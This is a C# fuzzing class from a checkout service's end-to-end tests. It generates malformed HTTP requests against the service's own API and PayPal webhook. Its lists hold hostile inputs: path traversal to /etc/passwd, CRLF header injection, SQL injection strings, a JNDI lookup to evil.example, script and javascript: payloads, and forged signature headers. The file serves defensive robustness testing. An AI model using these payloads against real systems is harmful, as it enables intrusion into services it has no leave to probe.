using System.Text;
using Checkout.EndToEndTests.Programs;

namespace Checkout.EndToEndTests.Fuzzing;

/// <summary>Bytes to send.</summary>
/// <param name="Operation">The operation that they began as; null for garbage.</param>
/// <param name="Bytes">What is sent.</param>
/// <param name="IsHttp">Whether a server has to understand them as a request; it may refuse the rest without a word of JSON.</param>
/// <param name="HasNoBodyBack">Whether the answer has none whatever it is: HEAD.</param>
/// <param name="Leaves">Whether the sender hangs up at once, and may be left without an answer.</param>
internal sealed record HostileRequest(string? Operation, byte[] Bytes, bool IsHttp, bool HasNoBodyBack, bool Leaves)
{
    /// <summary>The beginning, for the message of a test that fails.</summary>
    public override string ToString() => $"{Operation}: {Encoding.Latin1.GetString(Bytes.AsSpan(0, Math.Min(Bytes.Length, 1500)))}";
}

/// <summary>Makes requests that began as right ones. The same seed makes the same requests.</summary>
internal sealed class HostileRequests(int seed, IReadOnlyList<Operation> operations, HostilePlace place)
{
    private static readonly string[] Methods =
        ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "BREW", "get", "M-SEARCH"];

    private static readonly string[] Segments =
    [
        "5O190127TN364715T", "0", "-1", "null", "{id}", "..", ".", "%2e%2e", "..%2f..%2fetc%2fpasswd", "%2F", "%5C", "a%2Fb",
        "%20", "%09",
        "%0d%0aX-Evil:%20yes", "%FF", "%C0%AF", "%ED%A0%80", "%F0%9F%92%A9", "%E2%80%AE", "%25%30%30", "%u0000", "'%20or%201=1--",
        "%3Cscript%3E",
        "a;b=c", "*", "~", "a:b", "@", "%EF%BB%BF", "00000000-0000-0000-0000-000000000000", "con", "x%00y", "%00",
    ];

    private static readonly string[] Queries =
    [
        "", "?", "?&&&", "?=", "?status=COMPLETED", "?status=%00", "?status=%FF", "?status=%ED%A0%80", "?status=completed",
        "?status=COMPLETED&status=CREATED",
        "?after=%00", "?after=x", "?after=0", "?after=AAAA", "?after=%FF%FE", "?after=2026-01-01T00:00:00Z_1", "?limit=0", "?limit=-1",
        "?limit=1", "?limit=501", "?limit=1e3", "?limit=99999999999999999999", "?limit=%EF%BC%91", "?limit=1&limit=2", "?limit=",
        "?state=dead", "?state=%00", "?state=pending", "?status[]=x", "?token='%20or%201=1", "?paypal=return%0d%0aX:%20y",
    ];

    private static readonly string[] ContentTypes =
    [
        "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
        "application/json; charset=\"", "application/problem+json", "application/xml", "*/*", "json", ";", "",
        "application/json, text/plain",
        "APPLICATION/JSON", "application/json;", "application/vnd.api+json; charset=nonsense",
    ];

    private static readonly string[] Headers =
    [
        "Idempotency-Key: a", "Idempotency-Key: ", "Idempotency-Key: with space", "Idempotency-Key: \u00C3\u00A4",
        "Idempotency-Key: \u00FF",
        "Idempotency-Key: ,,,", "Accept: text/html", "Accept: ;;q=x", "Accept: nonsense", "Accept-Encoding: zstd, *;q=0",
        "Accept-Language: \u00E2\u0080\u00AE",
        "Origin: https://evil.example", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: nonsense", "X-Forwarded-For: 1.2.3.4, garbage",
        "X-Forwarded-Proto: https", "X-Forwarded-Host: evil.example", "Forwarded: for=\"[::1]:x\"", "Range: bytes=0-0,5-",
        "If-None-Match: *",
        "If-Modified-Since: never", "Expect: 100-continue", "Expect: nonsense", "Traceparent: 00-zz-zz-zz", "Tracestate: \u00FF",
        "Baggage: ===",
        "Upgrade: websocket", "Content-Encoding: gzip", "Content-Language: x", "X-HTTP-Method-Override: DELETE", "Authorization: Bearer",
        "Authorization: Basic YTpi", "Authorization: Bearer \u00C3\u00A4", "Cookie: checkout_visitor=", "Cookie: =;=;;",
        "Cookie: checkout_visitor=\u00C3\u00A4",
        "Cookie: $Version=1; checkout_visitor=\"\\\"", "Referer: javascript:alert(1)", "User-Agent: ${jndi:ldap://evil.example}", "DNT:",
        "paypal-transmission-id: a|b", "paypal-transmission-time: now", "paypal-cert-url: https://evil.example/v1/notifications/certs/C",
        "paypal-cert-url: file:///etc/passwd", "paypal-auth-algo: none", "paypal-transmission-sig: !!!!",
    ];

    private readonly Random random = new(seed);

    /// <summary>The next one.</summary>
    public HostileRequest Next()
    {
        if (random.Next(20) == 0)
        {
            return new HostileRequest(null, Garbage.Of(random), IsHttp: false, HasNoBodyBack: true, Leaves: false);
        }

        var operation = operations[random.Next(operations.Count)];
        var method = random.Next(10) == 0 ? Methods[random.Next(Methods.Length)] : operation.Method;
        var target = Target(operation);
        var body = operation.IsBodyOptional && random.Next(2) == 0 ? []
            : operation.Example is { } example
                // Its sums have to be right, and most harm makes them wrong.
                ? operation.IsForTheShopSystem && random.Next(5) == 0 ? Encoding.UTF8.GetBytes(example) : new HostileJson(random).Of(example)
            : random.Next(10) == 0 ? new HostileJson(random).Of("""{"a":[1]}""")
            : [];

        var host = random.Next(20) == 0 ? "evil.example:1" : "shop";
        var head = new List<string> { $"{method} {target} HTTP/1.1", $"Host: {host}", "Connection: close" };
        head.AddRange(Usual(operation));
        for (var i = random.Next(8) - 4; i > 0; i--)
        {
            head.Add(Headers[random.Next(Headers.Length)]);
        }

        var isHttp = !target.Contains("%00", StringComparison.Ordinal) && !head.Exists(line => line.Contains('\u00FF'))
            && target.Length < 3000 && method != "TRACE";
        return new HostileRequest(operation.Name, Framed(head, body), isHttp, method == "HEAD", random.Next(25) == 0);
    }

    private string Target(Operation operation)
    {
        var ids = operation.IsForTheShopSystem ? place.BackendIds : place.Ids;
        var id = random.Next(3) > 0 ? ids[random.Next(ids.Count)]
            : random.Next(10) == 0 ? new string('a', random.Next(1, 5_000))
            : Segments[random.Next(Segments.Length)];
        var path = operation.Path.Replace("{id}", id, StringComparison.Ordinal)
            .Replace("{operation_id}", id, StringComparison.Ordinal).Replace("{number}", id, StringComparison.Ordinal);
        return random.Next(15) switch
        {
            0 => path + "/" + Segments[random.Next(Segments.Length)],
            1 => path + "/",
            2 => path.ToUpperInvariant(),
            3 => "/" + path,
            4 => path.Replace("/api/", "/api//", StringComparison.Ordinal),
            <= 8 => path + Queries[random.Next(Queries.Length)],
            9 => path + "?q=" + new string('q', random.Next(5_000)),
            _ when operation.Name == "export-ledger" => path + "?format=csv",
            _ when operation.Name == "find-backend-order" => $"{path}?reference={HostilePlace.Reference}",
            _ => path,
        };
    }

    /// <summary>What a right request would have, most of the time.</summary>
    private IEnumerable<string> Usual(Operation operation)
    {
        if (operation.Example is not null)
        {
            yield return "Content-Type: " + (random.Next(8) == 0 ? ContentTypes[random.Next(ContentTypes.Length)] : "application/json");
        }

        if (random.Next(8) > 0)
        {
            yield return "Cookie: " + place.Cookie;
        }

        if (operation.Path.StartsWith("/api/merchant", StringComparison.Ordinal) && random.Next(8) > 0)
        {
            yield return "Authorization: Bearer " + Shop.AdminKey;
        }

        if (operation.IsForTheShopSystem && random.Next(20) > 0)
        {
            yield return "Authorization: Bearer " + Shop.BackendKey;
        }

        if (operation.Name == "create-order" && random.Next(2) == 0 || operation.Name == "create-backend-order" && random.Next(8) > 0)
        {
            yield return "Idempotency-Key: " + new string((char)('a' + random.Next(26)), random.Next(1, 258));
        }

        if (operation.Name == "webhook" && random.Next(2) == 0)
        {
            // Of few certificates, because PayPal is asked about few a minute.
            yield return "paypal-transmission-id: 69cd13f0-d67a-11e5-baa3-778b53f4ae55";
            yield return $"paypal-transmission-time: {TimeProvider.System.GetUtcNow():yyyy-MM-dd'T'HH:mm:ss'Z'}";
            yield return $"paypal-cert-url: {place.PayPal}v1/notifications/certs/CERT-{random.Next(5)}";
            yield return "paypal-auth-algo: SHA256withRSA";
            yield return "paypal-transmission-sig: " + Convert.ToBase64String(new byte[random.Next(512)]);
        }
    }

    private byte[] Framed(List<string> head, byte[] body)
    {
        var framed = new MemoryStream();
        var isChunked = random.Next(8) == 0;
        head.Add(isChunked ? "Transfer-Encoding: chunked" : $"Content-Length: {body.Length}");
        framed.Write(Encoding.Latin1.GetBytes(string.Join("\r\n", head) + "\r\n\r\n"));
        if (!isChunked)
        {
            framed.Write(body);
            return framed.ToArray();
        }

        foreach (var chunk in body.Chunk(random.Next(1, 4_000)))
        {
            framed.Write(Encoding.Latin1.GetBytes($"{chunk.Length:x}\r\n"));
            framed.Write(chunk);
            framed.Write("\r\n"u8);
        }

        framed.Write("0\r\n\r\n"u8);
        return framed.ToArray();
    }
}

/// <summary>What is right about the requests: a real visitor's cookie, ids that exist, and where PayPal is.</summary>
/// <param name="BackendIds">Of the shop system's orders. One is paid.</param>
internal sealed record HostilePlace(string Cookie, IReadOnlyList<string> Ids, IReadOnlyList<string> BackendIds, Uri PayPal)
{
    /// <summary>Of the shop system's order that is not paid.</summary>
    public const string Reference = "F-1";
}
